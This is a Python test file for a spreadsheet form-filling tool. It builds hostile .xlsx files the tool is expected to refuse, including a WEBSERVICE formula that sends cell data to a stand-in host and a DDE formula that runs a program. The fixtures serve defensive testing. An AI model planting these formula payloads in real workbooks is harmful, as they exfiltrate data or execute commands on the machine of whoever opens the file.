"""Files that are no form or carry more than one: what no file may hold, and the merely large."""

from form_filling import repack, substitute

from tests.filled.catalogue import Base, Family
from tests.hostile.bases import BOOK_RELS, SHEET, TYPES, related, relations, swap

FOREIGN = Family("foreign")
_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def _refused(
    title: str, code: str, make: object, *, name: str = "isian.xlsx", at: str = ""
) -> None:
    FOREIGN.add(title, make, codes=(code,), name=name, door=(code,), at=at)


_refused("an empty file", "B02", lambda _: b"")
_refused("half of the form", "H06", lambda base: base.filled()[: len(base.filled()) // 2])
_refused("a photograph's name", "H02", lambda _: b"halo", name="foto.jpg")
_refused(
    "macros",
    "H10",
    lambda base: repack(
        base.filled(),
        replace={TYPES: swap(_MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")},
    ),
)
_refused(
    "macros that nothing names",
    "H10",
    lambda base: repack(base.filled(), add={"xl/vbaProject.bin": b"x"}),
)
_refused(
    "a link to another workbook",
    "H12",
    lambda base: repack(
        base.filled(),
        replace={BOOK_RELS: related("externalLink", "externalLinks/externalLink1.xml")},
        add={
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                "externalLinkPath", "file://192.0.2.1/a.xlsx", external=True
            ),
        },
    ),
)
_refused(
    "a formula that asks the web",
    "H12",
    lambda base: _formula(base, '_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A1)'),
    at="realisasi_2",
)
_refused(
    "a formula that runs a program",
    "H11",
    lambda base: _formula(base, "cmd|'/C calc'!A0"),
    at="realisasi_2",
)
_refused(
    "a formula that reads another workbook",
    "H12",
    lambda base: _formula(base, "[1]Rekap!$B$7"),
    at="realisasi_2",
)
_refused(
    "an object inside",
    "H13",
    lambda base: repack(
        base.filled(),
        add={
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                "oleObject", "../embeddings/oleObject1.bin"
            ),
            "xl/embeddings/oleObject1.bin": bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600),
        },
    ),
)
_refused(
    "a document type",
    "H15",
    lambda base: repack(
        base.filled(),
        replace={SHEET: lambda content: b'<!DOCTYPE a [<!ENTITY b "c">]>' + content},
    ),
)


def _formula(base: Base, text: str) -> bytes:
    cell = base.cell("realisasi_2")
    change = substitute(
        rf'(<c r="{cell}"[^>]*?)(?: t="n")?><v>215</v>', rf"\1><f>{text}</f><v>215</v>"
    )
    return repack(base.filled(), replace={SHEET: change})


def _rows(base: Base, row: str, count: int) -> bytes:
    rows = "".join(row.format(number) for number in range(200, 200 + count))
    return repack(base.filled(), replace={SHEET: substitute("</sheetData>", f"{rows}</sheetData>")})


FOREIGN.add(
    "a million formatted rows",
    lambda base: _rows(base, '<row r="{0}" s="3" customFormat="1" ht="15"/>', 1_000_000),
    door=(),
)
FOREIGN.add(
    "a hundred thousand rows of formatted cells",
    lambda base: _rows(base, '<row r="{0}"><c r="A{0}" s="1"/><c r="B{0}" s="1"/></row>', 100_000),
)
FOREIGN.add(
    "a web address that Excel made a link",
    lambda base: repack(
        base.filled(),
        add={
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                "hyperlink", "https://contoh.go.id/", external=True
            )
        },
    ),
)
